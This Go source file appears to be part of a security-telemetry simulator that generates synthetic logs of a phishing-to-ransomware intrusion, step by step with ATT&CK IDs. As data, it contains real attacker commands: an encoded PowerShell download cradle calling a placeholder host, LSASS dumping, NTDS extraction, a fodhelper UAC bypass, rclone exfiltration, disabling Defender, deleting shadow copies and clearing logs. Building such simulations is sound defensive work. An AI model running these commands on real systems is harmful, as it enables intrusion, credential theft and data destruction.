package simulate

import (
	"encoding/base64"
	"fmt"
	"slices"
	"strings"
	"time"
)

// phishToRansomware: a mailed link brings a program that poses as an invoice; from
// the victim's workstation the attacker takes an administrator's credentials,
// reaches file server and domain controller, takes data out, and in the evening
// encrypts several servers.
//
// Its root is the first of the attacker's programs that ran, not the download.
func phishToRansomware(w *world) {
	e, r, c := w.estate, w.rng("phish-to-ransomware"), w.campaign("phish-to-ransomware", "Phished workstation to domain controller to ransomware")
	n := 4 + r.IntN(22)
	for e.workstations[n].drift != 0 {
		n++
	}
	victim, pc := e.people[n], e.workstations[n]
	admin, fs, dc, app := e.admins[2], e.files, e.dcs[0], e.server("SRV-APP1")
	c2 := fmt.Sprintf("203.0.113.%d", 160+r.IntN(30))
	drop := fmt.Sprintf("203.0.113.%d", 200+r.IntN(15))
	c2Name, dropName := "cdn-telemetry-"+hexOf(r, 4)+".example", "billing-portal-"+hexOf(r, 3)+".example"
	c.IPs = []string{c2, drop}
	home := `C:\Users\` + victim.login + `\`
	const who = netbios + `\`
	user, adm := who+victim.login, who+admin.login

	// The administrator helped at this machine in the morning, and left a session.
	w.logon(w.clock(9, 15).Add(between(r, 0, 10*time.Minute)), admin, pc, 10, admin.pc)

	at := w.clock(9, 35).Add(between(r, 0, 40*time.Minute))
	stem := pick(r, []string{"Invoice_", "Rechnung_", "Statement_"}) + w.day.Format("2006-01")
	zip := home + `Downloads\` + stem + `.zip`
	payload := home + `Downloads\` + stem + `\` + stem + `.pdf.exe`
	phish := c.step(at, deed{"T1566.002", "initial-access", pc.fqdn, user, "A mailed link followed; the browser writes " + base(zip), 0}, func() {
		tab := pc.outlook.start(at, pc.browser.image, `"`+pc.browser.image+`" --single-argument http://`+dropName+`/view?id=`+hexOf(r, 8))
		tab.resolve(at.Add(300*time.Millisecond), dropName, drop)
		tab.connect(at.Add(400*time.Millisecond), drop, 80, dropName, 900, 40000, time.Second)
		e.sensor.request(at.Add(9*time.Second), request{src: pc.ip, srcPort: 51000 + r.IntN(9000), dst: drop, dstPort: 80, method: "GET", host: dropName, uri: "/files/" + base(zip), agent: browserAgent, mime: "application/zip", status: 200, size: 1874321})
		tab.write(at.Add(10*time.Second), zip+".crdownload")
		tab.write(at.Add(11*time.Second), zip)
	})
	at = at.Add(between(r, 40*time.Second, 3*time.Minute))
	c.again(phish, func() { pc.desktop.shell.write(at.Add(-20*time.Second), payload) })
	var mal *proc
	run := c.step(at, deed{"T1204.002", "execution", pc.fqdn, user, base(payload) + " started by a double click", phish}, func() {
		mal = pc.desktop.shell.start(at, payload, `"`+payload+`"`)
	})
	c.root = run
	c.Root.Host, c.Root.User, c.Root.Process, c.Root.Time = pc.fqdn, user, payload, at
	at = at.Add(4 * time.Second)
	beacon := c.step(at, deed{"T1071.001", "command-and-control", pc.fqdn, user, "The program calls " + c2Name + " every few minutes", run}, func() {
		mal.resolve(at, c2Name, c2)
		mal.connect(at.Add(80*time.Millisecond), c2, 443, c2Name, 1800, 90000, 2*time.Second)
	})
	c.again(beacon, func() {
		every(r, at.Add(time.Minute), w.clock(16, 0), 6*time.Minute, func(at time.Time) {
			mal.connect(at, c2, 443, c2Name, 600+r.IntN(900), 500+r.IntN(4000), time.Second)
		})
	})
	at = at.Add(between(r, 6*time.Minute, 14*time.Minute))
	encoded := base64.StdEncoding.EncodeToString(utf16(`IEX (New-Object Net.WebClient).DownloadString('https://` + c2Name + `/s')`))
	var shell *proc
	stage := c.step(at, deed{"T1059.001", "execution", pc.fqdn, user, "A shell, and PowerShell with an encoded command", beacon}, func() {
		shell = mal.start(at, sys32+"cmd.exe", sys32+"cmd.exe")
		ps := shell.start(at.Add(3*time.Second), sys32+`WindowsPowerShell\v1.0\powershell.exe`, "powershell.exe -nop -w hidden -enc "+encoded)
		ps.script(at.Add(4*time.Second), `IEX (New-Object Net.WebClient).DownloadString('https://`+c2Name+`/s')`)
		ps.connect(at.Add(5*time.Second), c2, 443, c2Name, 900, 240000, 3*time.Second)
	})
	at = at.Add(between(r, 2*time.Minute, 6*time.Minute))
	look := c.step(at, deed{"T1087.002", "discovery", pc.fqdn, user, "Who am I, who are the domain's administrators, which servers", stage}, func() {
		for _, cmd := range []string{"whoami.exe /all", `net.exe group "Domain Admins" /domain`, "nltest.exe /domain_trusts", "net.exe view /all", "quser.exe", "ipconfig.exe /all"} {
			image, _, _ := strings.Cut(cmd, " ")
			shell.start(at, sys32+image, cmd).end(at.Add(time.Second))
			at = at.Add(between(r, 4*time.Second, 50*time.Second))
		}
	})
	at = at.Add(between(r, 3*time.Minute, 9*time.Minute))
	c.step(at, deed{"T1547.001", "persistence", pc.fqdn, user, "The program copied and started at every logon", run}, func() {
		mal.write(at, home+`AppData\Roaming\Updater\updater.exe`)
		mal.set(at.Add(time.Second), `HKU\`+victim.sid+`\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater`, home+`AppData\Roaming\Updater\updater.exe`)
	})
	at = at.Add(between(r, 15*time.Minute, 40*time.Minute))
	high := mal.as
	high.integrity = "High"
	var lifted *proc
	rise := c.step(at, deed{"T1548.002", "privilege-escalation", pc.fqdn, user, "User account control passed by through fodhelper", look}, func() {
		shell.start(at, sys32+"reg.exe", `reg.exe add HKCU\Software\Classes\ms-settings\Shell\Open\command /d "`+home+`AppData\Roaming\Updater\updater.exe" /f`).
			set(at.Add(50*time.Millisecond), `HKU\`+victim.sid+`_Classes\ms-settings\Shell\Open\command\(Default)`, home+`AppData\Roaming\Updater\updater.exe`)
		fod := shell.startAs(at.Add(4*time.Second), sys32+"fodhelper.exe", "fodhelper.exe", high)
		lifted = fod.start(at.Add(5*time.Second), home+`AppData\Roaming\Updater\updater.exe`, `"`+home+`AppData\Roaming\Updater\updater.exe"`)
	})
	at = at.Add(between(r, 4*time.Minute, 10*time.Minute))
	dump := c.step(at, deed{"T1003.001", "credential-access", pc.fqdn, user, "Memory of LSASS written to a file", rise}, func() {
		cmd := lifted.start(at, sys32+"cmd.exe", sys32+"cmd.exe")
		file := `C:\Windows\Temp\wer` + hexOf(r, 3) + `.dmp`
		var tool *proc
		if r.IntN(2) == 0 {
			tool = cmd.start(at.Add(2*time.Second), sys32+"rundll32.exe", fmt.Sprintf(`rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump %d %s full`, pc.lsass.pid, file))
		} else {
			tool = cmd.start(at.Add(2*time.Second), `C:\Windows\Temp\pd64.exe`, `pd64.exe -accepteula -ma lsass.exe `+file)
		}
		tool.open(at.Add(2300*time.Millisecond), pc.lsass, "0x1fffff", sys32+`ntdll.dll+9d6c4|`+sys32+`KERNELBASE.dll+2c0f3|`+sys32+`dbgcore.dll+6cee`)
		tool.write(at.Add(2500*time.Millisecond), file)
		shell = cmd
	})

	at = at.Add(between(r, 45*time.Minute, 85*time.Minute))
	var onFS *session
	var agent *proc
	spread := func(at time.Time, by *proc, to *host, program string) (*session, *proc) {
		by.explicit(at, admin, to)
		by.connect(at.Add(150*time.Millisecond), to.ip, 445, strings.ToLower(to.fqdn), 2400000, 9000, 6*time.Second)
		s := w.logon(at.Add(300*time.Millisecond), admin, to, 3, by.h)
		s.share(at.Add(500*time.Millisecond), "ADMIN$", `C:\Windows`, "", by.h)
		s.share(at.Add(700*time.Millisecond), "ADMIN$", `C:\Windows`, program, by.h)
		to.system.write(at.Add(800*time.Millisecond), `C:\Windows\`+program)
		return s, s.service(at.Add(2*time.Second), strings.TrimSuffix(program, ".exe"), `%SystemRoot%\`+program, to.services)
	}
	toFS := c.step(at, deed{"T1021.002", "lateral-movement", fs.fqdn, adm, "The stolen administrator's account copies a service to the file server", dump}, func() {
		onFS, agent = spread(at, shell, fs, "svc"+hexOf(r, 4)+".exe")
		agent.connect(at.Add(5*time.Second), c2, 443, c2Name, 1500, 80000, 2*time.Second)
	})
	c.again(toFS, func() {
		every(r, at.Add(time.Minute), w.clock(19, 0), 15*time.Minute, func(at time.Time) {
			agent.connect(at, c2, 443, c2Name, 700, 2000, time.Second)
		})
	})
	at = at.Add(between(r, 5*time.Minute, 15*time.Minute))
	var fsShell *proc
	c.step(at, deed{"T1135", "discovery", fs.fqdn, adm, "Shares and folders of the file server listed", toFS}, func() {
		fsShell = agent.startAs(at, sys32+"cmd.exe", sys32+"cmd.exe", identity{admin.login, netbios, admin.sid, onFS.as.logon, "High"})
		for _, cmd := range []string{"net.exe share", `cmd.exe /c dir /s /b D:\Data`, "net.exe session"} {
			image, _, _ := strings.Cut(cmd, " ")
			fsShell.start(at, sys32+image, cmd)
			at = at.Add(between(r, 9*time.Second, time.Minute))
		}
	})
	at = at.Add(between(r, 20*time.Minute, 50*time.Minute))
	var onDC *session
	var remote *proc
	toDC := c.step(at, deed{"T1021.006", "lateral-movement", dc.fqdn, adm, "A remote PowerShell session on the domain controller", toFS}, func() {
		ps := fsShell.start(at, sys32+`WindowsPowerShell\v1.0\powershell.exe`, "powershell.exe -c Enter-PSSession "+dc.name)
		ps.connect(at.Add(900*time.Millisecond), dc.ip, 5985, strings.ToLower(dc.fqdn), 22000, 60000, 9*time.Minute)
		onDC = w.logon(at.Add(time.Second), admin, dc, 3, fs)
		remote = dc.winrmHost(at.Add(2*time.Second), onDC)
		remote.start(at.Add(8*time.Second), sys32+"whoami.exe", `"C:\Windows\system32\whoami.exe"`)
	})
	at = at.Add(between(r, 2*time.Minute, 8*time.Minute))
	var secrets int
	if r.IntN(2) == 0 {
		secrets = c.step(at, deed{"T1003.006", "credential-access", dc.fqdn, adm, "The directory's secrets asked for by replication (DCSync)", toDC}, func() {
			s := w.logon(at, admin, dc, 3, fs)
			for i, right := range []string{"1131f6aa-9c07-11d1-f79f-00c04fc2dcd2", "1131f6ad-9c07-11d1-f79f-00c04fc2dcd2", "89e95b76-444d-4c62-991a-0facbeda640c"} {
				dc.secure(at.Add(time.Duration(i+1)*40*time.Millisecond), 4662, s.as, f("ObjectServer", "DS"), f("ObjectType", "%{19195a5b-6da0-11d0-afd3-00c04fd930c9}"), f("ObjectName", "%{5f0c7a52-1d5f-4c8e-9e6b-0a2f6d1c9b11}"),
					f("OperationType", "Object Access"), f("HandleId", "0x0"), f("AccessMask", "0x100"), f("Properties", "%%7688\n\t\t{"+right+"}\n\t{19195a5b-6da0-11d0-afd3-00c04fd930c9}"))
			}
			e.sensor.flow(at, flow{src: fs.ip, srcPort: 52000 + r.IntN(9000), dst: dc.ip, dstPort: 135, sent: 9000, got: 480000, lasted: 3 * time.Second})
		})
	} else {
		secrets = c.step(at, deed{"T1003.003", "credential-access", dc.fqdn, adm, "A copy made of the directory's database", toDC}, func() {
			tool := remote.start(at, sys32+"ntdsutil.exe", `ntdsutil.exe "ac i ntds" "ifm" "create full C:\Windows\Temp\sys" q q`)
			tool.write(at.Add(20*time.Second), `C:\Windows\Temp\sys\Active Directory\ntds.dit`)
			tool.write(at.Add(25*time.Second), `C:\Windows\Temp\sys\registry\SYSTEM`)
		})
	}
	at = at.Add(between(r, 60*time.Minute, 85*time.Minute))
	packed := c.step(at, deed{"T1560.001", "collection", fs.fqdn, adm, "The data folder packed into an archive with a password", toFS}, func() {
		z := fsShell.start(at, `C:\ProgramData\7z.exe`, `C:\ProgramData\7z.exe a -mhe -pX9f2 C:\ProgramData\d.7z D:\Data\Finance D:\Data\HR`)
		z.write(at.Add(3*time.Second), `C:\ProgramData\d.7z`)
		z.end(at.Add(9 * time.Minute))
	})
	at = at.Add(between(r, 12*time.Minute, 30*time.Minute))
	c.step(at, deed{"T1567.002", "exfiltration", fs.fqdn, adm, "The archive sent to a storage service by rclone", packed}, func() {
		rc := fsShell.start(at, `C:\ProgramData\rclone.exe`, `C:\ProgramData\rclone.exe copy C:\ProgramData\d.7z remote:in --no-check-certificate -q`)
		rc.connect(at.Add(2*time.Second), drop, 443, "objects."+dropName, 2_900_000_000, 4_000_000, 22*time.Minute)
		rc.end(at.Add(23 * time.Minute))
	})

	at = w.clock(19, 20).Add(between(r, 0, 40*time.Minute))
	hosts := []*host{fs, app, e.server("SRV-PRINT1")}
	locker := "upd" + hexOf(r, 3) + ".exe"
	shells := map[*host]*proc{fs: fsShell}
	push := c.step(at, deed{"T1569.002", "execution", app.fqdn, adm, "A service installed on further servers from the file server", secrets}, func() {
		for _, h := range hosts[1:] {
			_, svc := spread(at, fsShell, h, locker)
			shells[h] = svc.start(at.Add(5*time.Second), sys32+"cmd.exe", sys32+"cmd.exe /q")
			at = at.Add(between(r, 40*time.Second, 2*time.Minute))
		}
	})
	at = at.Add(between(r, 5*time.Minute, 12*time.Minute))
	off := c.step(at, deed{"T1685", "defense-impairment", fs.fqdn, adm, "Defender switched off on the servers", push}, func() {
		for _, h := range hosts {
			ps := shells[h].start(at, sys32+`WindowsPowerShell\v1.0\powershell.exe`, "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true")
			ps.script(at.Add(time.Second), "Set-MpPreference -DisableRealtimeMonitoring $true")
			h.event(at.Add(2*time.Second), defenderLog, 5001, f("Product Name", "Microsoft Defender Antivirus"), f("Product Version", "4.18.25110.6"))
			at = at.Add(between(r, 5*time.Second, 30*time.Second))
		}
	})
	at = at.Add(between(r, 5*time.Minute, 10*time.Minute))
	shadows := c.step(at, deed{"T1490", "impact", fs.fqdn, adm, "Shadow copies deleted and recovery switched off", off}, func() {
		for _, h := range hosts {
			shells[h].start(at, sys32+"vssadmin.exe", "vssadmin.exe delete shadows /all /quiet")
			shells[h].start(at.Add(2*time.Second), sys32+"bcdedit.exe", "bcdedit.exe /set {default} recoveryenabled no")
			at = at.Add(between(r, 5*time.Second, 30*time.Second))
		}
	})
	at = at.Add(between(r, 5*time.Minute, 9*time.Minute))
	note := pick(r, []string{"HOW_TO_RESTORE_FILES.txt", "!README!.txt", "recover-your-files.hta"})
	extension := "." + strings.ToLower(letters(r, 5))
	lock := c.step(at, deed{"T1486", "impact", fs.fqdn, adm, "Hundreds of files encrypted on several servers", shadows}, func() {
		for _, h := range hosts {
			p := shells[h].start(at, `C:\Windows\`+locker, `C:\Windows\`+locker+` -p D:\`)
			t := at.Add(2 * time.Second)
			for n := range 240 {
				folder := fmt.Sprintf(`D:\Data\%s\%02d\`, pick(r, []string{"Finance", "HR", "Projects", "Sales"}), n/20)
				p.write(t, fmt.Sprintf("%sdocument%03d.xlsx%s", folder, n, extension))
				if n%20 == 0 {
					p.write(t.Add(3*time.Millisecond), folder+note)
				}
				t = t.Add(between(r, 20*time.Millisecond, 900*time.Millisecond))
			}
			at = at.Add(between(r, 20*time.Second, 90*time.Second))
		}
		at = at.Add(4 * time.Minute)
	})
	at = at.Add(between(r, 5*time.Minute, 12*time.Minute))
	c.step(at, deed{"T1685.005", "defense-impairment", fs.fqdn, adm, "Event logs cleared on the servers", lock}, func() {
		for _, h := range hosts {
			for k, log := range []string{"Security", "System"} {
				shells[h].start(at.Add(time.Duration(k)*time.Second), sys32+"wevtutil.exe", "wevtutil.exe cl "+log)
			}
			h.cleared(at.Add(300*time.Millisecond), identity{admin.login, netbios, admin.sid, onFS.as.logon, "High"})
			at = at.Add(between(r, 5*time.Second, 20*time.Second))
		}
	})
	for _, h := range hosts {
		if !slices.Contains(c.Hosts, h.fqdn) {
			c.Hosts = append(c.Hosts, h.fqdn)
		}
	}
}

// utf16 is s in UTF-16LE, as PowerShell wants its encoded commands.
func utf16(s string) []byte {
	out := make([]byte, 0, 2*len(s))
	for i := range len(s) {
		out = append(out, s[i], 0)
	}
	return out
}
